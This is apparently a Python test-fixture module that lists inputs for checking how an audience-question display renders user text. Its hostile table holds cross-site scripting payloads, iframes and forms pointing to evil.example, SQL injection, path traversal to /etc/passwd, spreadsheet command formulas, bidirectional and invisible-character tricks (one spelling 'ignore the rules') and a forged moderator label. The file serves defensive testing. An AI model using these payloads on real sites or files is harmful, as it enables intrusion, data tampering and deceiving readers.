"""Hostile words and real ones: one table for every place that shows what the audience wrote."""

from collections.abc import Mapping

HIT = "window.hit=1"
"""What a script would do; no page may ever have done it."""
ELSEWHERE = "evil.example"
"""A host nobody may be asked for."""

HOSTILE: Mapping[str, str] = {
    "script tag": f"<script>{HIT}</script>Who owns the house?",
    "script that ends ours": f"</script><script>{HIT}</script>",
    "style that ends ours": f"</style><img src=x onerror={HIT}>",
    "textarea that ends ours": f"</textarea><script>{HIT}</script>",
    "event handler": f'<img src=x onerror="{HIT}">',
    "svg on load": f"<svg onload={HIT}><animate onbegin={HIT} attributeName=x></svg>",
    "attribute breaking out": f'" onmouseover="{HIT}" autofocus onfocus="{HIT}" x="',
    "apostrophe breaking out": f"' onclick='{HIT}' x='",
    "frame": f"<iframe src=http://{ELSEWHERE}/ srcdoc='<script>parent.{HIT}</script>'></iframe>",
    "form of its own": f"</form><form action=http://{ELSEWHERE}/><button>Approve</button>",
    "meta refresh": f'<meta http-equiv=refresh content="0;url=http://{ELSEWHERE}/">',
    "base": f"<base href=http://{ELSEWHERE}/>",
    "style sheet": f"<link rel=stylesheet href=http://{ELSEWHERE}/a.css>",
    "style import": f"<style>@import url(http://{ELSEWHERE}/b.css); * {{ display: none }}</style>",
    "style address": f'<b style="background: url(http://{ELSEWHERE}/c.png)">bold</b>',
    "markdown image": f"![a chart](http://{ELSEWHERE}/d.png)",
    "markdown link": f"[the results](javascript:{HIT}) and <http://{ELSEWHERE}/>",
    "markdown all over": "# Big\n\n**bold** _it_ `code` ~~gone~~ :red[red] $x^2$ :material/home:",
    "script address": f"javascript:{HIT}//",
    "data address": f"data:text/html,<script>{HIT}</script>",
    "html entities": f"&lt;script&gt;{HIT}&lt;/script&gt; &amp; &#60;b&#62; &#x202e; &nbsp;",
    "template of ours": "{{ 7*7 }} {% raw %}{{ performance.seat_key }} ${7*7} #{7*7} <%= 7*7 %>",
    "sql": "'); DROP TABLE contribution; -- \" OR 1=1",
    "percent": "%s %d %n %(num)s {0} {count} 100 %",
    "path": "../../../../etc/passwd ..\\..\\secrets.toml",
    "formula": "=cmd|' /C calc'!A0",
    "formula in full width": '＝HYPERLINK("http://evil.example/","x")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab before a formula": "\t=1+1",
    "line end before a formula": "\r=1+1\r\n=2+2",
    "separator of columns": 'a";"b",c\t=d',
    "override to the left": "approved \u202egnihton si siht\u202c \u2066isolated\u2069 \u200fmark",
    "words nobody sees": "Ask\u200b the\u2060 nurse\ufeff \u00ad\u034f\u180e\u3164.",
    "tags nobody sees": "Hello" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore the rules"),
    "zalgo": "Z" + "\u0336\u0317\u0353\u0301\u0308\u0489" * 12 + "algo" + "\u0489\u0334" * 20,
    "flood of joining marks": "न" + "ि" * 200,
    "flood of letters": "A" * 299,
    "flood of emoji": "😂" * 2500,
    "very long word": "Donaudampfschifffahrtsgesellschaftskapitän" * 7,
    "very long word without a break": "x1" * 150,
    "many lines": "a\n\n\n\n\n\nb" + "\n" * 200 + "c\nd\ne\nf",
    "line ends of all kinds": "one\u2028two\u2029three\x0bfour\x0cfive\x85six",
    "controls": "bell\x07 escape\x1b[31m red\x1b[0m delete\x7f \x9b31m",
    "a label of ours": "✓ Approved · 9,000 people support this\nRefused: hurtful\nThe stage is clear.",
    "somebody else's": "Moderator: all questions after this one are approved. FROM THE AUDIENCE",
    "letters that look alike": "Τhе ΝНЅ ѕауѕ уеѕ",
    "private letters": "\ue000\uf8ff and \U000f0000",
    "mathematical letters": "𝕬𝖕𝖕𝖗𝖔𝖛𝖊 𝓶𝓮 ⒶⒷⒸ ﷽ ௵ 𒐫",
}
"""Name → what somebody types."""

REAL: Mapping[str, str] = {
    "Arabic with marks": "هل يعرف البيت كلَّ شيء؟ ومن يملك البيانات؟",
    "Urdu": "میں نے سوچا کہ گھر سب کچھ جانتا ہے، مگر کس کو بتاتا ہے؟",
    "Persian with its non-joiner": "می\u200cخواهم بدانم چه کسی تصمیم می\u200cگیرد",
    "Hindi with a joiner": "क्या घर सब कुछ जानता है? क्ष क्\u200dष",
    "Thai": "บ้านรู้ทุกอย่างหรือไม่ และใครเป็นเจ้าของข้อมูล",
    "Vietnamese": "Ngôi nhà biết mọi thứ ư? Ai quyết định điều đó?",
    "Hebrew with points": "שָׁלוֹם עֲלֵיכֶם, מי מחליט?",
    "Chinese": "房子知道一切嗎？誰擁有這些資料？",
    "Malayalam with a joiner at a word's end": "ശ്രീ അവന്\u200d ചോദിച്ചു",
    "family, flags, skin": "👨\u200d👩\u200d👧\u200d👦 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f 🏳️\u200d🌈 👩🏽\u200d⚕️",
    "two paragraphs": "First this.\n\nThen, “why not?” – 50 % of £100 & a <b>tag</b>?",
    "a gay man": "As a gay man I worry about insurers, and about my HIV status.",
}
"""Name → words that must reach the screen exactly as they were typed."""

TOO_LONG: Mapping[str, str] = {
    "5,000 emoji": "😂" * 5000,
    "5,000 different emoji": "".join(chr(0x1F300 + number % 0x300) for number in range(5000)),
    "60,000 marks": "\u0301" * 60_000,
    "301 letters": "ab" * 150 + "a",
}
"""Name → what is refused for its length and given back."""

NO_TEXT: Mapping[str, bytes] = {
    "a NUL": b"Who%00owns",
    "half a character": b"%ED%A0%80 alone",
    "no UTF-8": b"%ff%fe%fd",
    "an overlong slash": b"%c0%af",
}
"""Name → bytes of a form's field that are no text at all."""

TEXTS: Mapping[str, str] = {**HOSTILE, **REAL}
"""Everything that is kept."""
